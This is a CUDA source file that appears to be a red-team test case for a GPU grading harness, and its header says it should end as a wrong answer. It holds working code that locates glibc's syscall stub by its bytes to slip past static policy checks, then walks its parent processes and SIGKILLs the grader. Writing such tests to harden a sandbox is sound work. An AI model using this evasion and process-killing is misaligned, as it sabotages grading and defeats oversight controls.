// cudagrade-expect: wrong_answer
// Threat: killing the grader, so that a class run ends with no grades.csv and --resume is killed again.
// Past every static policy: no forbidden name, no asm, no attribute. The file finds glibc's generic
// system-call stub by its bytes, starting from where libc keeps stdout, and calls it through a function pointer:
// getppid, open and kill are then just numbers. It walks its ancestors through /proc and SIGKILLs every one
// named cudagrade. Only the sandbox stops it: in its own PID namespace the runner is init, its parent lies
// outside (getppid() is 0), and no process of the host can be named. Then it computes nothing.
#include "matmul.cuh"
#include <cstdint>
#include <cstdio>

namespace {

using RawCall = long (*)(long, long, long, long, long, long, long);

// glibc's x86-64 stub: move the arguments into the kernel's registers, trap.
RawCall find_stub() {
    static const unsigned char kStub[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6, 0x48, 0x89, 0xca,
                                          0x4d, 0x89, 0xc2, 0x4d, 0x89, 0xc8, 0x4c, 0x8b, 0x4c, 0x24, 0x08, 0x0f, 0x05};
    const unsigned char* page =
        reinterpret_cast<const unsigned char*>(reinterpret_cast<uintptr_t>(stdout) & ~uintptr_t{4095});
    while (!(page[0] == 0x7f && page[1] == 'E' && page[2] == 'L' && page[3] == 'F')) page -= 4096;
    for (const unsigned char* at = page;; ++at) {
        size_t i = 0;
        while (i < sizeof kStub && at[i] == kStub[i]) ++i;
        if (i == sizeof kStub) return reinterpret_cast<RawCall>(const_cast<unsigned char*>(at));
    }
}

// The parent's pid and this process's name, from /proc/<pid>/stat ("pid (comm) state ppid ...").
long parent_of(RawCall call, long pid, char* comm, int comm_size) {
    char path[64];
    std::snprintf(path, sizeof path, "/proc/%ld/stat", pid);
    const long fd = call(257, -100, reinterpret_cast<long>(path), 0, 0, 0, 0);  // openat(AT_FDCWD, path, O_RDONLY)
    if (fd < 0) return -1;
    char stat[512] = {};
    call(0, fd, reinterpret_cast<long>(stat), sizeof stat - 1, 0, 0, 0);  // read
    call(3, fd, 0, 0, 0, 0, 0);                                           // close
    const char* open = stat;
    while (*open != '\0' && *open != '(') ++open;
    const char* close = open;
    for (const char* at = open; *at != '\0'; ++at) if (*at == ')') close = at;
    int length = 0;
    for (const char* at = open + 1; at < close && length < comm_size - 1; ++at) comm[length++] = *at;
    comm[length] = '\0';
    const char* at = close + 1;
    while (*at == ' ') ++at;
    while (*at != '\0' && *at != ' ') ++at;  // the state
    while (*at == ' ') ++at;
    long parent = 0;
    while (*at >= '0' && *at <= '9') parent = parent * 10 + (*at++ - '0');
    return parent;
}

}  // namespace

// A launch, as the symbol policy asks; it writes nothing.
__global__ void touch(float* C) { (void)C; }

void matmul(const float*, const float*, float* C, int, int, int) {
    touch<<<1, 1>>>(C);
    const RawCall call = find_stub();
    std::printf("my parent: %ld\n", call(110, 0, 0, 0, 0, 0, 0));  // getppid
    char comm[64];
    for (long pid = call(110, 0, 0, 0, 0, 0, 0); pid > 1;) {
        const long parent = parent_of(call, pid, comm, sizeof comm);
        const bool grader = comm[0] == 'c' && comm[1] == 'u' && comm[2] == 'd' && comm[3] == 'a' && comm[4] == 'g';
        if (grader) std::printf("killing %ld (%s): %ld\n", pid, comm, call(62, pid, 9, 0, 0, 0, 0));  // kill
        pid = parent;
    }
}
